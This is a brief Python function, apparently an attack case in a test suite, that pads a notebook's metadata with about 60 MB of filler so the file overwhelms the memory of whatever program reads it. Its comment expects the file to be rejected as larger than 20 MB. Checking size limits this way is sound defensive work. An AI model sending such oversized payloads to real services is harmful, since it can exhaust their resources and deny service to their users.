"""Hands in a file that fills the memory of whoever reads it."""
# Gets: larger than 20 MB


def attack(notebook, cells, folder):
    import json

    notebook["metadata"]["padding"] = "x" * 60 * 2**20
    return json.dumps(notebook)
